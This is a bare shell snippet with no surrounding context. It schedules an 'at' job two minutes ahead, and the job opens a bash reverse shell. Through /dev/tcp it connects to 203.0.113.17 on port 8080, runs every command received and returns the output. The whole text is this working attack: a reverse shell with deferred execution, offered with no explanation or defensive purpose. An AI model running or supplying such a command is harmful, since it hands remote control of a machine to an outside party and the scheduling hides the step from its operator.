at now + 2 minutes <<'EOF'
bash -c 'exec 5<>/dev/tcp/203.0.113.17/8080; while read -r l <&5; do $l 2>&5 >&5; done'
EOF
